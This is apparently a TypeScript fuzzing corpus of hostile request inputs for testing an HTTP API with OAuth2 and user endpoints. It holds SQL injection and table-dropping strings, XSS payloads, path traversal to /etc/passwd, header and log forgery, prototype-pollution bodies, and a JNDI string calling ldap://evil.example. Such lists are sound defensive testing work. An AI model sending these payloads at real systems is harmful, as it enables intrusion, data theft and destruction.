// What attackers and accidents send. Each list is for one place in a request.

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '"; DELETE FROM applications; --',
  "1 UNION SELECT secret_hash FROM client_secrets",
  "\\'; UPDATE users SET flags = -1; --",
  "$1",
  ":id",
  "?",
  "$$; SELECT pg_sleep(5); $$",
];
const LIKE = ["%", "_", "%%%%", "a%b_c\\", "[a-z]*", "\\"];
const LINES = [
  "a\r\nSet-Cookie: owned=1",
  "\n",
  "\r",
  '\n{"level":60,"msg":"forged"}\n',
  '"}\n{"level":60,"msg":"forged"}',
  "a\u2028b\u2029c\u0085d",
  "\u001b[2J\u001b[31mred",
];
const UNICODE = [
  "\0",
  "a\0b",
  "\ud800",
  "\udfff\ud800",
  "\ufffd",
  "\ufeff",
  "\u202eevil\u202c",
  "İIıi",
  "ﬃ",
  "e\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦".repeat(40),
  "\u{10ffff}",
  "\uffff",
  "а\u0430dа",
  "\t \u00a0\u3000",
  "ß".repeat(1000),
];
const MARKUP = [
  "<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "{{7*7}}$\u007b7*7}",
  "javascript:alert(1)",
  "data:text/html,x",
  "../../etc/passwd",
  "file:///etc/passwd",
  "http://[::1",
  "https://a@b:c@d",
  "//evil.example",
  "/\\evil.example",
];
const DIGITS = [
  "0",
  "-1",
  "00",
  "01",
  "1e3",
  "0x10",
  "1.5",
  "NaN",
  "Infinity",
  "9223372036854775807",
  "9223372036854775808",
  "18446744073709551616",
  "9".repeat(400),
  "١٢٣",
];
export const PROTOTYPE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "then",
  "toJSON",
  "__defineGetter__",
];
const LENGTHS = [1, 31, 32, 33, 72, 73, 100, 255, 256, 1000, 1024, 2048, 4096, 5000, 20_000].map((length) =>
  "a".repeat(length),
);

/** What has stopped the most programs comes more often. */
const FAVOURITES = ["\0", "a\0b", "\ud800", "'", '"', "\\", "\n"].flatMap((text) =>
  Array<string>(5).fill(text),
);

export const TEXTS: readonly string[] = [
  ...FAVOURITES,
  "",
  " ",
  "null",
  "undefined",
  "true",
  "[object Object]",
  ...[SQL, LIKE, LINES, UNICODE, MARKUP, DIGITS, PROTOTYPE_KEYS, LENGTHS].flat(),
];

/** Written into JSON as it stands: what no value can say. */
export function raw(json: string): string {
  return `@@raw:${Buffer.from(json).toString("hex")}@@`;
}

export function writeJson(value: unknown): string {
  const text = JSON.stringify(value) ?? "";
  return text.replace(/"@@raw:([0-9a-f]*)@@"/g, (_, hex: string) => Buffer.from(hex, "hex").toString());
}

/** For forms and queries, where all is text. */
export function writeText(value: unknown): string {
  return typeof value === "string" && !value.startsWith("@@raw:") ? value : writeJson(value);
}

const arrays = (depth: number) => raw("[".repeat(depth) + "]".repeat(depth));
const objects = (depth: number) => raw(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`);

/** Values for where a body has another. */
export const VALUES: readonly unknown[] = [
  ...[null, true, false, 0, -1, 1.5, 1e-7, 2 ** 31, 2 ** 53, -(2 ** 63), 2 ** 64, 1e308],
  ...[[], {}, [null], [[]], { a: 1 }, { "": null }, { length: 1e9 }, raw('{"then":1}'), { toString: "x" }],
  ...["1e400", "-0", "1E+999", "-1e-999", "9".repeat(1000), "01", "NaN", "0x10", "undefined", "'a'"].map(raw),
  ...[60, 63, 64, 65, 1000, 30_000].map(arrays),
  ...[62, 66, 8000].map(objects),
  Array.from({ length: 2000 }, () => "a"),
  Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`k${index}`, index])),
  raw('{"__proto__":{"polluted":true}}'),
  raw('{"constructor":{"prototype":{"polluted":true}}}'),
];

export const MEMBERS: readonly string[] = [
  ...PROTOTYPE_KEYS,
  ...["id", "owner_id", "user_id", "client_secret", "flags", "bot", "admin", "scope", "trusted", "verified"],
  ...["", " ", "a.b", "a[]", "a[b]", "\0", "\ud800", "$where", "client_id", "password", "token"],
];

/** Percent-encoded bytes that are no text, half an escape, or more than one reading. */
export const ESCAPES: readonly string[] = [
  ...["%", "%%", "%z", "%zz", "%0", "%00", "%0d%0a", "%ff", "%c0%af", "%ed%a0%80", "%u0041", "%2500"],
  ...["%2e%2e", "%252e%252e", "%2f", "%5c", "%3f", "%23", "%e2%80%ae", "%F0%9F%98%80", "+", "%2b", ";", "&&"],
];

export const PATHS: readonly string[] = [
  ...[
    "/",
    "//",
    "/v1",
    "/v1/",
    "/v1/v1/users/@me",
    "/../..",
    "/%2e%2e/%2e%2e",
    "/.env",
    "/%00",
    "/*",
    "/:id",
  ],
  ...["/oauth2", "/oauth2/", "/oauth2//token", "/oauth2/token/", "/OAUTH2/TOKEN", "/oauth2/%74oken", "/{id}"],
  ...["/users/", "/users/@me/", "/users/%40me", "/users/%2540me", "/users/@me%00", "/users/@me;a=b", "/@me"],
  ...[
    "/__proto__",
    "/constructor",
    "/users/__proto__",
    "/guilds/1/members/",
    "/%",
    "/%ff",
    "/a".repeat(2000),
  ],
  ...["/openapi.json", "/healthz", "/readyz", "/assets/pages.css", "/sign-in", "/sign-up", "/\\evil.example"],
  ...[
    "/oauth2/authorized",
    "/oauth2/declined",
    "/sign-out",
    "/oauth2/authorize/decision",
    "/\ud800",
    "/\u202e",
  ],
];

export const METHODS: readonly string[] = [
  ...[
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "PROPFIND",
    "QUERY",
    "get",
    "Post",
    "X-!#$",
  ],
];

export const CONTENT_TYPES: readonly string[] = [
  ...[
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "text/plain",
    "",
    "json",
  ],
  ...[
    "application/json1",
    "application/json; charset=utf-8",
    "application/json; charset=utf-16",
    "APPLICATION/JSON",
  ],
  ...[
    "application/json;charset",
    'application/json; charset="utf-8',
    "application/json,text/plain",
    ";",
    "/",
    "*/*",
  ],
  ...["application/x-www-form-urlencoded; charset=iso-8859-1", "multipart/form-data; boundary=", "a/b/c"],
  ...[
    "multipart/form-data; boundary=a b",
    `multipart/form-data; boundary=${"x".repeat(300)}`,
    "application/json;;;",
  ],
  ...['multipart/form-data; boundary="', "multipart/mixed; boundary=b", "application/vnd.api+json", "\u00ff"],
];

/** Headers besides those that a request of ours has. */
export const HEADERS: readonly (readonly [name: string, value: string])[] = [
  ["content-length", "0"],
  ["content-length", "-1"],
  ["content-length", "1e9"],
  ["content-length", "99999999999999999999"],
  ["content-length", "abc"],
  ["content-encoding", "gzip"],
  ["content-encoding", "identity"],
  ["transfer-encoding", "chunked"],
  ["x-forwarded-for", "1.2.3.4, ::1, unknown, ' OR 1=1"],
  ["x-forwarded-for", "[::1]:80, 999.1.1.1, fe80::1%eth0,,,"],
  ["x-forwarded-host", "evil.example"],
  ["x-forwarded-proto", "javascript"],
  ["x-http-method-override", "DELETE"],
  ["x-original-url", "/admin/audit-logs"],
  ["host", "evil.example"],
  ["origin", "null"],
  ["origin", "https://evil.example"],
  ["referer", "https://evil.example/?access_token=1"],
  ["sec-fetch-site", "cross-site"],
  ["cookie", "session=1; __Host-session=; =; a; __proto__=1"],
  ["cookie", "x".repeat(8000)],
  ["accept", "text/html;q=NaN, */*;q=-1"],
  ["accept-language", "<script>, de-DE;q=0.5"],
  ["accept-encoding", "gzip, br, zstd, identity;q=0"],
  ["if-none-match", '"*", W/"'],
  ["if-modified-since", "yesterday"],
  ["range", "bytes=0-0,-1,5-2"],
  ["expect", "100-continue"],
  ["connection", "upgrade"],
  ["upgrade", "websocket"],
  ["x-request-id", '"}\u0085{"level":60'],
  ["user-agent", '$\u007bjndi:ldap://evil.example/a} "\\" %n%n'],
  ["__proto__", "polluted"],
  ["constructor", "polluted"],
];
